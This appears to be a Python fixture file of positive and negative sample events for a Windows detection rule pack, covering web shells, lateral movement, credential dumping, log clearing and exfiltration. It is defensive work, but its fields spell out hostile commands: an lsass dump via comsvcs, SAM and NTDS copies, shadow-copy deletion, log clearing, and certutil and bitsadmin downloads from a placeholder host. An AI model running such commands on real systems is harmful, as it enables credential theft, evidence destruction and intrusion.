"""For every rule of the pack one event that it must find, and what to change so that it must not.

CASE(rule, kind, fields, changes...): `fields` is the event; each change is a dict laid over it (None removes a
field) that makes an event that the rule must leave alone. Nothing here is an attack: the values are words in a log.
"""
PROC = ('Microsoft-Windows-Sysmon/Operational', 1)
TIME = ('Microsoft-Windows-Sysmon/Operational', 2)
NET = ('Microsoft-Windows-Sysmon/Operational', 3)
LOAD = ('Microsoft-Windows-Sysmon/Operational', 7)
ACCESS = ('Microsoft-Windows-Sysmon/Operational', 10)
FILE = ('Microsoft-Windows-Sysmon/Operational', 11)
REG = ('Microsoft-Windows-Sysmon/Operational', 13)
WMI = ('Microsoft-Windows-Sysmon/Operational', 21)
SCRIPT = ('Microsoft-Windows-PowerShell/Operational', 4104)
MAIL = ('MSExchange Management', 1)
SESSION = ('Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', 21)
FIREWALL = ('Microsoft-Windows-Windows Firewall With Advanced Security/Firewall', 2004)
BITS = ('Microsoft-Windows-Bits-Client/Operational', 59)
TASKS = ('Microsoft-Windows-TaskScheduler/Operational', 141)
IIS = ('Microsoft-IIS-Configuration/Operational', 29)
def SEC(n): return ('Security', n)
def SYS(n): return ('System', n)
def AV(n): return ('Microsoft-Windows-Windows Defender/Operational', n)


W32 = 'C:\\Windows\\System32\\'
W3WP = W32 + 'inetsrv\\w3wp.exe'
OWA = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\'
WRITE = '%%1538 %%4417'
CASES = []


def CASE(rule, kind, fields, *changes):
    assert changes, rule
    CASES.append((rule, kind, fields, changes))


def mail(cmdlet, parameters): return {'param1': cmdlet, 'param2': parameters}


CASE('web/shell_below_web_server', PROC, {'ParentImage': W3WP, 'Image': W32 + 'cmd.exe'},
     {'ParentImage': W32 + 'svchost.exe'}, {'Image': W32 + 'csc.exe'})
CASE('web/discovery_below_web_server', PROC, {'ParentImage': 'D:\\Tomcat9\\bin\\tomcat9.exe', 'Image': W32 + 'whoami.exe'},
     {'ParentImage': W32 + 'explorer.exe'}, {'Image': W32 + 'conhost.exe'})
CASE('web/discovery_two_steps_below_web_server', PROC,
     {'ParentImage': W32 + 'cmd.exe', 'User': 'IIS APPPOOL\\MSExchangeOWAAppPool', 'Image': W32 + 'ipconfig.exe'},
     {'User': 'CORP\\anna'}, {'Image': W32 + 'timeout.exe'})
CASE('web/java_server_shell', PROC, {'ParentImage': 'D:\\tomcat\\jre\\bin\\java.exe', 'Image': W32 + 'cmd.exe'},
     {'ParentImage': 'C:\\Program Files\\Editor\\java.exe'})
CASE('web/page_written_by_server', FILE, {'Image': 'System', 'TargetFilename': OWA + 'page.aspx'},
     {'Image': 'C:\\Windows\\System32\\msiexec.exe'}, {'TargetFilename': OWA + 'page.css'}, {'TargetFilename': 'D:\\work\\page.aspx'})
CASE('web/page_written_by_worker', FILE, {'Image': W3WP, 'TargetFilename': 'C:\\inetpub\\wwwroot\\x.ashx'},
     {'TargetFilename': 'C:\\Windows\\Microsoft.NET\\Framework64\\v4\\Temporary ASP.NET Files\\a.aspx'}, {'Image': W32 + 'notepad.exe'})
CASE('web/page_written_over_share', SEC(5145), {'ShareName': '\\\\*\\C$', 'RelativeTargetName': 'inetpub\\x.aspx', 'AccessList': WRITE},
     {'AccessList': '%%4416'}, {'ShareName': '\\\\*\\sites'})
CASE('web/executable_below_web_server', FILE, {'Image': W3WP, 'TargetFilename': 'C:\\ProgramData\\x.exe'},
     {'TargetFilename': 'C:\\ProgramData\\x.log'})
CASE('web/iis_module_by_command', PROC, {'Image': W32 + 'inetsrv\\appcmd.exe', 'CommandLine': 'appcmd.exe install module /name:x /image:y.dll'},
     {'CommandLine': 'appcmd.exe list module'})
CASE('web/iis_module_configured', IIS, {'Configuration': '/system.webServer/globalModules/add[@name="x"]/globalModules/'},
     {'Configuration': '/system.webServer/defaultDocument'})
CASE('web/iis_unsigned_module_loaded', LOAD, {'Image': W3WP, 'Signed': 'false', 'ImageLoaded': W32 + 'inetsrv\\x.dll'}, {'Signed': 'true'})
CASE('web/certificate_request_as_page', PROC, {'Image': W32 + 'x.exe', 'CommandLine': 'New-ExchangeCertificate -RequestFile y.aspx'},
     {'CommandLine': 'New-ExchangeCertificate -RequestFile y.req'})
CASE('mail/cmdlet_export_to_page', MAIL, mail('New-MailboxExportRequest', '-FilePath "\\\\127.0.0.1\\C$\\x.aspx"'),
     mail('New-MailboxExportRequest', '-FilePath "\\\\files\\pst\\x.pst"'))
CASE('mail/cmdlet_virtual_directory_address', MAIL, mail('Set-OabVirtualDirectory', '-ExternalUrl "http://f/<script language=x runat=server>"'),
     mail('Set-OabVirtualDirectory', '-ExternalUrl "https://mail.corp.example/OAB"'))
CASE('mail/cmdlet_virtual_directory_reset', MAIL, mail('Remove-OabVirtualDirectory', '-Identity "OAB"'), mail('Get-OabVirtualDirectory', ''))
CASE('mail/cmdlet_mailbox_export', MAIL, mail('New-MailboxExportRequest', '-Mailbox "anna"'), mail('Get-MailboxExportRequest', ''))
CASE('mail/cmdlet_export_request_removed', MAIL, mail('Remove-MailboxExportRequest', '-Identity "x"'), mail('Get-MailboxExportRequest', ''))
CASE('mail/cmdlet_impersonation', MAIL, mail('New-ManagementRoleAssignment', '-Role "ApplicationImpersonation" -User "svc"'),
     mail('New-ManagementRoleAssignment', '-Role "View-Only Recipients" -User "svc"'))
CASE('mail/cmdlet_full_access', MAIL, mail('Add-MailboxPermission', '-Identity "a" -User "b" -AccessRights "FullAccess"'),
     mail('Add-MailboxPermission', '-Identity "a" -User "b" -AccessRights "ReadPermission"'))
CASE('mail/cmdlet_forwarding', MAIL, mail('Set-Mailbox', '-Identity "a" -ForwardingSmtpAddress "smtp:a@partner.example"'),
     mail('Set-Mailbox', '-Identity "a" -ForwardingSmtpAddress "$null"'))
CASE('mail/cmdlet_inbox_rule', MAIL, mail('New-InboxRule', '-Name "x" -ForwardTo "b@partner.example"'), mail('New-InboxRule', '-Name "x" -MoveToFolder "y"'))
CASE('mail/cmdlet_transport_rule', MAIL, mail('New-TransportRule', '-Name "x" -BlindCopyTo "b@partner.example"'),
     mail('New-TransportRule', '-Name "x" -PrependSubject "y"'))
CASE('mail/cmdlet_transport_agent', MAIL, mail('Install-TransportAgent', '-Name "x" -AssemblyPath "C:\\x.dll"'), mail('Get-TransportAgent', ''))
CASE('mail/transport_agent_by_command', PROC, {'Image': W32 + 'x.exe', 'CommandLine': 'powershell Install-TransportAgent -Name x'},
     {'CommandLine': 'powershell Get-TransportAgent'})
CASE('mail/snapin_below_web_server', PROC, {'ParentImage': W3WP, 'Image': W32 + 'WindowsPowerShell\\v1.0\\powershell.exe',
                                            'CommandLine': 'powershell Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn'},
     {'CommandLine': 'powershell Get-Date'})
NEW = {'Provider_Name': 'Service Control Manager', 'ServiceName': 'x', 'ImagePath': 'C:\\ProgramData\\x.exe'}
CASE('services/service_from_unusual_path', SYS(7045), NEW, {'ImagePath': 'C:\\Program Files\\x\\x.exe'}, {'Provider_Name': 'Another Provider'})
CASE('services/service_from_unusual_path_audit', SEC(4697), {'ServiceFileName': 'C:\\Users\\Public\\x.exe'},
     {'ServiceFileName': 'C:\\ProgramData\\Microsoft\\Windows Defender\\x.exe'})
CASE('services/service_runs_interpreter', SYS(7045), dict(NEW, ImagePath='%COMSPEC% /c echo'), {'ImagePath': 'C:\\Program Files\\x\\x.exe'})
CASE('services/service_random_name_admin_share', SYS(7045), dict(NEW, ImagePath='%systemroot%\\abcdefgh.exe'),
     {'ImagePath': '%systemroot%\\System32\\svchost.exe -k netsvcs'})
CASE('services/remote_execution_service', SYS(7045), dict(NEW, ServiceName='PSEXESVC', ImagePath='%SystemRoot%\\PSEXESVC.exe'),
     {'ServiceName': 'Spooler', 'ImagePath': 'C:\\Windows\\System32\\spoolsv.exe'})
CASE('services/service_by_command', PROC, {'Image': W32 + 'sc.exe', 'CommandLine': 'sc create x binPath= C:\\ProgramData\\x.exe'},
     {'CommandLine': 'sc create x binPath= "C:\\Program Files\\x\\x.exe"'})
CASE('tasks/task_from_unusual_path', SEC(4698), {'TaskName': '\\x', 'TaskContent': '<Command>C:\\ProgramData\\x.exe</Command>'},
     {'TaskContent': '<Command>C:\\Program Files\\x.exe</Command>'}, {'TaskName': '\\Microsoft\\Windows\\Windows Defender\\x'})
CASE('tasks/task_from_remote', SEC(4698), {'TaskName': '\\x', 'TaskContent': 'x', 'RpcCallClientLocality': '1'}, {'RpcCallClientLocality': '0'})
CASE('tasks/task_by_command_remote', PROC, {'Image': W32 + 'schtasks.exe', 'CommandLine': 'schtasks /create /s WS07 /tn x /tr y'},
     {'CommandLine': 'schtasks /create /tn x /tr y'})
CASE('tasks/task_deleted', SEC(4699), {'TaskName': '\\x'}, {'TaskName': '\\Microsoft\\Windows\\x'})
CASE('tasks/task_registered_and_deleted_log', TASKS, {'TaskName': '\\x'}, {'TaskName': '\\MicrosoftEdgeUpdateTaskMachineUA'})
CASE('update/updater_starts_unsigned_installer', PROC,
     {'ParentImage': 'C:\\Program Files\\Vendor\\UpdAgent.exe', 'Image': 'C:\\ProgramData\\Vendor\\upd\\setup_4.2.7.exe', 'User': 'NT AUTHORITY\\SYSTEM'},
     {'ParentImage': W32 + 'services.exe'}, {'User': 'CORP\\anna'})
CASE('update/updater_writes_service_program', PROC, {'ParentImage': 'C:\\ProgramData\\Vendor\\setup_4.2.7.exe', 'Image': W32 + 'cmd.exe'},
     {'ParentImage': 'C:\\Program Files\\Vendor\\setup.exe'})
CASE('update/unsigned_library_beside_service', LOAD,
     {'Image': 'C:\\x.exe', 'ImageLoaded': 'C:\\ProgramData\\x.dll', 'Signed': 'false', 'User': 'NT AUTHORITY\\SYSTEM'}, {'Signed': 'true'})
CASE('lateral/explicit_credentials_from_server', SEC(4648),
     {'SubjectUserSid': 'S-1-5-18', 'TargetUserName': 'svc-deploy', 'TargetServerName': 'UPD01', 'ProcessName': 'C:\\ProgramData\\x.exe'},
     {'ProcessName': 'C:\\Windows\\System32\\svchost.exe'}, {'TargetServerName': 'localhost'}, {'SubjectUserSid': 'S-1-5-21-1-2-3-1104'})
CASE('lateral/explicit_credentials_by_web_server', SEC(4648),
     {'SubjectUserSid': 'S-1-5-20', 'TargetUserName': 'x', 'TargetServerName': 'DB01', 'ProcessName': W3WP}, {'TargetServerName': 'localhost'})
CASE('lateral/admin_share_program_write', SEC(5145), {'ShareName': '\\\\*\\ADMIN$', 'RelativeTargetName': 'x.exe', 'AccessList': WRITE},
     {'AccessList': '%%4416'}, {'ShareName': '\\\\*\\software'})
CASE('lateral/service_control_pipe', SEC(5145), {'ShareName': '\\\\*\\IPC$', 'RelativeTargetName': 'svcctl', 'AccessList': WRITE},
     {'RelativeTargetName': 'srvsvc'})
CASE('lateral/wmi_child', PROC, {'ParentImage': W32 + 'wbem\\WmiPrvSE.exe', 'Image': W32 + 'cmd.exe'}, {'Image': W32 + 'WerFault.exe'})
CASE('lateral/winrm_child', PROC, {'ParentImage': W32 + 'wsmprovhost.exe', 'Image': W32 + 'whoami.exe'}, {'Image': W32 + 'conhost.exe'})
CASE('lateral/remote_desktop_by_system_account', SEC(4624), {'LogonType': '10', 'IpAddress': '127.0.0.1'}, {'IpAddress': '10.0.0.7'}, {'LogonType': '3'})
CASE('lateral/remote_desktop_session', SESSION, {'User': 'CORP\\a', 'Address': '10.0.0.7'}, {'Address': 'LOCAL'})
CASE('lateral/wmic_remote_process', PROC, {'Image': W32 + 'wbem\\WMIC.exe', 'CommandLine': 'wmic /node:WS07 process call create x'},
     {'CommandLine': 'wmic process list'})
CASE('lateral/network_share_by_command', PROC, {'Image': W32 + 'net.exe', 'CommandLine': 'net use \\\\WS07\\C$ /user:a b'},
     {'CommandLine': 'net use \\\\files\\projects'})
CASE('lateral/psexec_source', PROC, {'Image': 'C:\\x.exe', 'OriginalFileName': 'psexec.c', 'CommandLine': 'x'}, {'OriginalFileName': 'x.exe'})
LSASS = {'SourceImage': 'C:\\ProgramData\\x.exe', 'TargetImage': W32 + 'lsass.exe', 'GrantedAccess': '0x1010'}
CASE('credentials/lsass_access', ACCESS, LSASS, {'GrantedAccess': '0x1000'}, {'SourceImage': W32 + 'csrss.exe'}, {'TargetImage': W32 + 'svchost.exe'})
CASE('credentials/comsvcs_dump', PROC, {'Image': W32 + 'rundll32.exe', 'CommandLine': 'rundll32 comsvcs.dll, #24 712 x full'},
     {'CommandLine': 'rundll32 shell32.dll, #24'})
CASE('credentials/dump_file_written', FILE, {'Image': 'C:\\x.exe', 'TargetFilename': 'C:\\Windows\\Temp\\a.dmp'},
     {'Image': W32 + 'WerFault.exe'}, {'TargetFilename': 'C:\\app\\a.dmp'})
CASE('credentials/dump_tool', PROC, {'Image': 'C:\\x.exe', 'CommandLine': 'procdump lsass'}, {'CommandLine': 'procdump app'})
CASE('credentials/dcsync', SEC(4662), {'SubjectUserName': 'anna', 'AccessMask': '0x100', 'Properties': '%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}'},
     {'SubjectUserName': 'DC02$'}, {'AccessMask': '0x10'}, {'SubjectUserName': 'MSOL_0123'})
CASE('credentials/registry_hives_saved', PROC, {'Image': W32 + 'reg.exe', 'CommandLine': 'reg save HKLM\\SAM C:\\a'}, {'CommandLine': 'reg save HKLM\\SOFTWARE\\x C:\\a'})
CASE('credentials/directory_database_copied', PROC, {'Image': W32 + 'ntdsutil.exe', 'CommandLine': 'ntdsutil "ac i ntds" ifm "create full x"'},
     {'CommandLine': 'ntdsutil "ac i ntds" info'})
CASE('credentials/service_tickets_weak_encryption', SEC(4769), {'TicketEncryptionType': '0x17', 'Status': '0x0', 'ServiceName': 'svc-sql'},
     {'TicketEncryptionType': '0x12'}, {'ServiceName': 'FS01$'})
CASE('stealth/security_log_cleared', SEC(1102), {'Provider_Name': 'Microsoft-Windows-Eventlog', 'SubjectUserName': 'x'}, {'Provider_Name': 'Another'})
CASE('stealth/log_cleared', SYS(104), {'Provider_Name': 'Microsoft-Windows-Eventlog', 'Channel': 'System'}, {'Provider_Name': 'Another'})
CASE('stealth/log_cleared_by_command', PROC, {'Image': W32 + 'wevtutil.exe', 'CommandLine': 'wevtutil cl Security'}, {'CommandLine': 'wevtutil qe Security'})
CASE('stealth/audit_policy_changed', SEC(4719), {'AuditPolicyChanges': '%%8448'}, {'AuditPolicyChanges': '%%8449'})
CASE('stealth/audit_policy_by_command', PROC, {'Image': W32 + 'auditpol.exe', 'CommandLine': 'auditpol /clear /y'}, {'CommandLine': 'auditpol /get /category:*'})
CASE('stealth/defender_switched_off', AV(5001), {'ProductName': 'x'}, {'_id': 5000})
CASE('stealth/defender_exclusion', AV(5007), {'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\x = 0x0'},
     {'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\SpyNet = 0x2'})
CASE('stealth/defender_changed_by_command', PROC, {'Image': 'C:\\x.exe', 'CommandLine': 'powershell Add-MpPreference -ExclusionPath C:\\x'},
     {'CommandLine': 'powershell Get-MpPreference'})
CASE('stealth/defender_detection', AV(1116), {'Threat Name': 'Test', 'Path': 'x'}, {'_id': 1150})
CASE('stealth/defender_action_failed', AV(1118), {'Threat Name': 'Test'}, {'_id': 1117})
CASE('stealth/timestomp', TIME, {'Image': 'C:\\ProgramData\\x.exe', 'TargetFilename': 'C:\\upd\\setup.exe'},
     {'TargetFilename': 'C:\\upd\\notes.txt'}, {'Image': W32 + 'msiexec.exe'})
CASE('stealth/firewall_rule_by_command', PROC, {'Image': W32 + 'netsh.exe', 'CommandLine': 'netsh advfirewall firewall add rule name=x dir=in action=allow'},
     {'CommandLine': 'netsh advfirewall show allprofiles'})
CASE('stealth/firewall_rule_added', FIREWALL, {'ApplicationPath': 'C:\\ProgramData\\x.exe'}, {'ApplicationPath': 'C:\\Program Files\\x.exe'})
CASE('stealth/shadow_copies_deleted', PROC, {'Image': W32 + 'vssadmin.exe', 'CommandLine': 'vssadmin delete shadows /all'},
     {'CommandLine': 'vssadmin list shadows'})
CASE('stealth/system_tool_name_elsewhere', PROC, {'Image': 'C:\\ProgramData\\svchost.exe'}, {'Image': W32 + 'svchost.exe'})
CASE('theft/archive_with_volumes', PROC, {'Image': 'C:\\ProgramData\\a.exe', 'CommandLine': 'C:\\ProgramData\\a.exe a -r -v200m c.7z D:\\d'},
     {'CommandLine': 'a.exe x c.7z'}, {'CommandLine': 'a.exe a -r c.7z D:\\d'})
CASE('theft/archive_tool_renamed', PROC, {'Image': 'C:\\ProgramData\\a.exe', 'OriginalFileName': '7z.exe', 'CommandLine': 'a'},
     {'Image': 'C:\\Program Files\\7-Zip\\7z.exe'})
CASE('theft/archive_volumes_written', FILE, {'Image': 'C:\\x.exe', 'TargetFilename': 'C:\\ProgramData\\c.7z.003'}, {'TargetFilename': 'D:\\backup\\c.7z.003'},
     {'TargetFilename': 'C:\\ProgramData\\c.log'})
CASE('theft/archive_below_web_root', FILE, {'Image': 'C:\\x.exe', 'TargetFilename': 'C:\\inetpub\\wwwroot\\c.zip'}, {'TargetFilename': 'C:\\inetpub\\logs\\c.zip'})
CASE('theft/pst_written', FILE, {'Image': 'C:\\x.exe', 'TargetFilename': 'D:\\x.pst'}, {'TargetFilename': 'C:\\Users\\a\\AppData\\Local\\Microsoft\\Outlook\\a.pst'})
CASE('theft/sync_tool', PROC, {'Image': 'C:\\ProgramData\\x.exe', 'CommandLine': 'x copy D:\\ remote: --config c'}, {'CommandLine': 'x copy D:\\ E:\\'})
CASE('tools/bits_download', PROC, {'Image': W32 + 'bitsadmin.exe', 'CommandLine': 'bitsadmin /transfer x http://h.example/x C:\\x'},
     {'CommandLine': 'bitsadmin /list'})
CASE('tools/bits_job_remote_program', BITS, {'url': 'http://198.51.100.7/x'}, {'url': 'http://update.vendor.example/x'})
CASE('tools/certutil_download', PROC, {'Image': W32 + 'certutil.exe', 'CommandLine': 'certutil -urlcache -f http://h.example/x x'},
     {'CommandLine': 'certutil -store my'})
CASE('tools/encoded_powershell', PROC, {'Image': W32 + 'WindowsPowerShell\\v1.0\\powershell.exe', 'CommandLine': 'powershell -nop -w hidden -enc ' + 'QQ' * 30},
     {'CommandLine': 'powershell -nop -File C:\\x.ps1'})
CASE('tools/script_block_download_and_run', SCRIPT, {'ScriptBlockText': 'Invoke-Expression (x).DownloadString("y")'}, {'ScriptBlockText': 'Invoke-WebRequest y -OutFile z'})
CASE('tools/program_from_programdata_root', PROC, {'Image': 'C:\\ProgramData\\x.exe', 'ParentImage': W32 + 'cmd.exe'},
     {'Image': 'C:\\ProgramData\\Vendor\\x.exe'}, {'ParentImage': W32 + 'msiexec.exe'})
CASE('tools/connection_from_programdata', NET, {'Image': 'C:\\ProgramData\\x.exe', 'Initiated': 'true', 'DestinationIp': '203.0.113.9'},
     {'DestinationIp': '127.0.0.1'}, {'Initiated': 'false'})
CASE('accounts/local_administrator_added', SEC(4732), {'TargetSid': 'S-1-5-32-544', 'MemberSid': 'S-1-5-21-1-2-3-1104'}, {'TargetSid': 'S-1-5-32-545'})
CASE('accounts/privileged_group_changed', SEC(4728), {'TargetSid': 'S-1-5-21-1-2-3-512'}, {'TargetSid': 'S-1-5-21-1-2-3-513'})
CASE('accounts/account_by_command', PROC, {'Image': W32 + 'net.exe', 'CommandLine': 'net user x y /add'}, {'CommandLine': 'net user x'})
CASE('accounts/guest_enabled', SEC(4722), {'TargetSid': 'S-1-5-21-1-2-3-501'}, {'TargetSid': 'S-1-5-21-1-2-3-1104'})
CASE('accounts/wdigest_enabled', REG, {'TargetObject': 'HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential', 'Details': 'DWORD (0x00000001)'},
     {'Details': 'DWORD (0x00000000)'})
CASE('accounts/restricted_admin', REG, {'TargetObject': 'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections', 'Details': 'DWORD (0x00000000)'},
     {'Details': 'DWORD (0x00000001)'})
CASE('persistence/run_key_writable_folder', REG, {'TargetObject': 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x', 'Details': 'C:\\ProgramData\\x.exe'},
     {'Details': 'C:\\Program Files\\x.exe'})
CASE('persistence/wmi_subscription', WMI, {'Consumer': 'x', 'Filter': 'y'}, {'_id': 19})
CASE('persistence/service_registry_image', REG, {'TargetObject': 'HKLM\\System\\CurrentControlSet\\Services\\x\\ImagePath', 'Details': 'C:\\Users\\Public\\x.exe'},
     {'Details': 'C:\\Windows\\System32\\x.exe'})
CASE('discovery/domain_trusts', PROC, {'Image': W32 + 'nltest.exe', 'CommandLine': 'nltest /domain_trusts'}, {'CommandLine': 'nltest /sc_query:x'})
CASE('discovery/discovery_by_system_account', PROC, {'Image': W32 + 'whoami.exe', 'User': 'NT AUTHORITY\\SYSTEM'}, {'User': 'CORP\\anna'})
